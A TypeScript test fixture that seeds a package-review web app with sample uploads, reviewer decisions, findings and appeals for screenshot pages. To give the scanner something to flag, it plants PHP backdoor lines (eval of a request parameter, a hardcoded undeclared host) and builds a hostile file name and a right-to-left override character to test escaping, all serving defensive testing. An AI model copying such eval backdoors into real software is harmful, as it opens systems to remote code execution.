import type { GalleryArea, GalleryPage } from './gallery.js';
import type { World } from './world.js';

const about = { slug: 'newsletter', version: '1.1.0' };
const CASE = '/review/newsletter/1.1.0';
/** A version that was sent back and is here again. */
const AGAIN = '/review/newsletter/1.2.0';

/** The desk of the reviewers. */
export const reviewPages: GalleryArea = {
  name: 'review',
  async pages(world): Promise<readonly GalleryPage[]> {
    await tell(world);
    const flagged = nameOf(world);
    const as = 'reviewer' as const;
    return [
      { name: 'queue', path: '/review', as },
      { name: 'queue-filtered', path: '/review?kind=version&new_flags=on', as },
      { name: 'queue-none', path: '/review?publisher=Nobody', as },
      { name: 'keys', path: '/review/-/keys', as },
      { name: 'queue-forbidden', path: '/review', as: 'member', status: 403 },
      { name: 'registration', path: '/review/ledger', as },
      { name: 'release', path: CASE, as },
      { name: 'release-published', path: '/review/newsletter/1.0.0', as },
      { name: 'flags', path: `${CASE}/flags`, as },
      { name: 'files', path: `${CASE}/files`, as },
      { name: 'files-none', path: `${CASE}/files?find=nothing-of-that-name`, as },
      { name: 'file', path: `${CASE}/file?${new URLSearchParams({ path: flagged })}`, as },
      { name: 'file-prose', path: `${CASE}/file?path=README.md`, as },
      { name: 'file-binary', path: `${CASE}/file?path=logo.png`, as },
      { name: 'file-binary-text', path: `${CASE}/file?path=logo.png&text=1`, as },
      { name: 'file-missing', path: `${CASE}/file?path=none.php`, as, status: 404 },
      { name: 'diff', path: `${CASE}/diff?${new URLSearchParams({ path: flagged })}`, as },
      { name: 'diff-split', path: `${CASE}/diff?path=module.json&view=split`, as },
      { name: 'diff-binary', path: `${CASE}/diff?path=logo.png`, as },
      { name: 'diff-moved', path: `${CASE}/diff?path=src/Split.php`, as },
      { name: 'diff-new', path: `${CASE}/diff?path=README.md`, as },
      { name: 'diff-removed', path: `${CASE}/diff?path=src/Old.php`, as },
      { name: 'corrected', path: `${AGAIN}?against=sent_back`, as },
      { name: 'corrected-file', path: `${AGAIN}/file?path=src/Letter.php&against=sent_back`, as },
      {
        name: 'finding',
        path: `${CASE}/finding?${new URLSearchParams({ path: flagged, line: '6', rule: 'eval' })}`,
        as,
      },
      { name: 'corrected-files', path: `${AGAIN}/files?against=sent_back`, as },
      { name: 'diff-missing', path: `${CASE}/diff?path=none.php`, as, status: 404 },
      { name: 'previous', path: `${CASE}/previous`, as },
      { name: 'search', path: `${CASE}/search?query=eval`, as },
      { name: 'search-refused', path: `${CASE}/search?query=`, as },
      { name: 'thread', path: `${CASE}/thread`, as },
      { name: 'thread-empty', path: '/review/ledger/thread', as },
      { name: 'decide', path: `${CASE}/decide`, as },
      {
        name: 'decide-refused',
        path: `${CASE}/decide`,
        as,
        act: async (page, words) => {
          await page.getByLabel(words.review.decide.headingOf.request_changes).check();
          await page.locator('form.sheet button:not(.first):not(.plain)').click();
        },
      },
      {
        name: 'decide-preview',
        path: `${CASE}/decide`,
        as,
        act: async (page, words) => {
          await page.getByLabel(words.review.decide.headingOf.request_changes).check();
          await page
            .getByLabel(words.review.decide.reason, { exact: true })
            .fill(world.say('Say what is done with the addresses.'));
          await page.locator('form.sheet button:not(.first):not(.plain)').click();
        },
      },
      {
        name: 'decide-stale',
        // Of another version than the pages above: two pages are looked at side by side, and these must not change.
        path: `${AGAIN}/decide`,
        as,
        act: async (page, words) => {
          await page.getByLabel(words.review.decide.headingOf.approve).check();
          const { publisher } = world.people;
          await publisher.call('write_to_reviewer', {
            slug: 'newsletter',
            version: '1.2.0',
            text: world.say('One more thing.'),
          });
          await page.locator('form.sheet button:not(.first):not(.plain)').click();
          await page.getByRole('alert').waitFor();
        },
      },
      {
        name: 'suspend-preview',
        path: '/review/newsletter/1.0.0/decide',
        as,
        act: async (page, words) => {
          await page.getByLabel(words.review.decide.headingOf.suspend).check();
          await page
            .getByLabel(words.review.decide.reason, { exact: true })
            .fill(world.say('It sends what nobody may read.'));
          await page.locator('form.sheet button:not(.first):not(.plain)').click();
        },
      },
      { name: 'corrected-number', path: '/review/labels/1.0.1', as },
      { name: 'corrected-number-upload', path: '/account/artifacts/labels/upload', as: 'publisher' },
      { name: 'corrected-number-publisher', path: '/account/artifacts/labels/releases/1.0.1', as: 'publisher' },
      { name: 'history', path: '/review/newsletter/history', as },
      { name: 'reasons', path: '/review/-/reasons', as },
      { name: 'appeals', path: '/review/-/appeals', as },
      {
        name: 'appeal',
        path: '/review/-/appeals',
        as,
        act: (page, words) =>
          page.getByRole('link', { name: words.review.appeals.readLink, exact: true }).first().click(),
      },
      { name: 'altered', path: '/review/-/altered', as },
      { name: 'altered-group', path: `/review/-/altered/newsletter/${'ab'.repeat(32)}`, as },
    ];
  },
};

async function tell(world: World): Promise<void> {
  const { people, say, upload } = world;
  const { publisher, reviewer } = people;
  await publisher.agent('service_register_artifact', {
    slug: 'newsletter',
    name: say('Newsletter').slice(0, 120),
    description: {
      en: say('Sends letters to who has asked for them.'),
      de: say('Sendet Briefe an alle, die sie wollen.'),
    },
  });
  await reviewer.call('decide_artifact', { slug: 'newsletter', decision: 'approve' });
  await upload('newsletter', '1.0.0', { files: filesOf(world, false), manifest: manifestOf(world, '1.0.0') });
  await reviewer.call('decide_release', { slug: 'newsletter', version: '1.0.0', decision: 'approve' });
  await upload('newsletter', '1.1.0', { files: filesOf(world, true), manifest: manifestOf(world, '1.1.0') });
  await upload('newsletter', '1.2.0', { files: filesOf(world, true), manifest: manifestOf(world, '1.2.0') });
  const back = { slug: 'newsletter', version: '1.2.0', decision: 'request_changes' };
  const findings = [
    { guideline: 'network', file: 'src/Letter.php', line: 2, text: say('Name the host.'), level: 'must' },
    {
      guideline: 'code-execution',
      file: nameOf(world),
      line: 6,
      text: say('Do not run what a request says.'),
      level: 'must',
    },
    { guideline: 'release-notes', text: say('Say what changes for administrators.'), level: 'should' },
  ];
  await reviewer.call('decide_release', { ...back, reason: say('Name the host.'), findings });
  const corrected = { ...filesOf(world, true), 'src/Letter.php': `<?php\n// ${say('Names the host.')}\n` };
  await upload('newsletter', '1.2.0', { files: corrected, manifest: manifestOf(world, '1.2.0') });
  await rejectNumber(world);
  await reviewer.call('claim_review', about);
  await reviewer.call('ask_publisher', { ...about, text: say('Where does the report go?') });
  await publisher.call('write_to_reviewer', { ...about, text: say('To the address of the customer, nowhere else.') });
  await reviewer.call('write_review_note', {
    ...about,
    text: say('The same host was in the version that was suspended.'),
  });
  await reviewer.call('tick_finding', { slug: 'newsletter', version: '1.2.0', finding: 0, done: true });
  await reviewer.call('note_finding', { ...about, ...findings[1] });
  await reviewer.call('save_reason', {
    title: say('Undeclared host').slice(0, 120),
    text: say('The package sends data to a host that neither the notes nor the permissions name.'),
  });
  const { licence_key } = await world.console('issue_licence', { slug: 'newsletter', installation: 'shop-1' });
  await fetch(new URL('/v1/artifacts/newsletter/altered-reports', world.url), {
    method: 'POST',
    headers: { authorization: `Bearer ${licence_key}`, 'content-type': 'application/json' },
    body: JSON.stringify({ version: '1.0.0', sha256: 'ab'.repeat(32), installation: 'shop-1' }),
  });
  await publisher.agent('service_register_artifact', {
    slug: 'counter',
    name: say('Counter').slice(0, 120),
    description: { en: say('Counts.') },
  });
  const reason = say('The description says nothing about what is counted.');
  const asked = [{ guideline: 'registration', text: say('Say what is counted.'), level: 'must' }];
  await reviewer.call('decide_artifact', { slug: 'counter', decision: 'reject', reason, findings: asked });
  await publisher.call('appeal_decision', { slug: 'counter', words: say('The description says what it will do.') });
}

/** A rejected number, and the higher one that corrects it, with something ticked off. */
async function rejectNumber({ people, say, upload }: World): Promise<void> {
  const { publisher, reviewer } = people;
  const slug = 'labels';
  await publisher.agent('service_register_artifact', {
    slug,
    name: 'Labels',
    description: { en: say('Prints labels.') },
  });
  await reviewer.call('decide_artifact', { slug, decision: 'approve' });
  await upload(slug, '1.0.0', { files: { 'src/Print.php': '<?php eval($text);\n' } });
  const findings = [
    { guideline: 'code-execution', file: 'src/Print.php', line: 1, text: say('Do not run it.'), level: 'must' },
    { guideline: 'release-notes', text: say('Say what it prints.'), level: 'should' },
  ];
  const reason = say('It runs what it is sent.');
  await reviewer.call('decide_release', { slug, version: '1.0.0', decision: 'reject', reason, findings });
  await upload(slug, '1.0.1', { files: { 'src/Print.php': '<?php echo $text;\n' } });
  await reviewer.call('tick_finding', { slug, version: '1.0.1', finding: 1, done: true });
}

/** A file that the scan has something to say about. */
function nameOf({ hostile }: World): string {
  return hostile ? `src/a'&x=${encodeURIComponent('<')}b owned.php` : 'src/Report.php';
}

function manifestOf({ say }: World, version: string): Readonly<Record<string, unknown>> {
  const isNew = version !== '1.0.0';
  return {
    slug: 'newsletter',
    version,
    name: say('Newsletter'),
    permissions: isNew ? ['letters.write', say('addresses.read')] : ['letters.write'],
    hooks: [say('letter.sent')],
    requires: { mail: isNew ? '^2.0' : '^1.0' },
  };
}

function filesOf(world: World, isNew: boolean): Record<string, string | Uint8Array> {
  const { say } = world;
  const old = [
    '<?php',
    'final class Report',
    '{',
    '    public function total(): int',
    '    {',
    '        return 1;',
    '    }',
    '}',
  ];
  const added = [
    `    // ${say('Sends the report.')}`,
    "    private const HOST = 'http://192.0.2.7/send';",
    '    function run() { eval($_GET["code"]); }',
  ];
  const files: Record<string, string | Uint8Array> = {
    [nameOf(world)]: `${(isNew ? [...old.slice(0, 3), ...added, ...old.slice(3)] : old).join('\n')}\n`,
    'src/Letter.php': `<?php\n// ${say('A letter.')}\nfinal class Letter {}\n`,
    'migrations/2026_01_letters.php': '<?php // creates the table\n',
    'routes.php': '<?php // routes\n',
  };
  const moved = ['function host(): string', '{', "    return 'letters.example';", '}', ''].join('\n');
  if (!isNew) {
    return { ...files, 'src/Old.php': '<?php // gone later\n', 'src/Split.php': `<?php\n// first\n${moved}// last\n` };
  }
  return {
    ...files,
    'src/Host.php': `<?php\n${moved}`,
    'src/Split.php': '<?php\n// first\n// last\n',
    'README.md': `# ${say('Newsletter')}\n\nنص عربي\u202e and ${'a long line '.repeat(200)}\n`,
    'logo.png': Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0, ...Buffer.from(say('pixels'))]),
    ...Object.fromEntries(Array.from({ length: 220 }, (_, at) => [`assets/icon-${at}.svg`, `<svg id="i${at}"/>\n`])),
  };
}
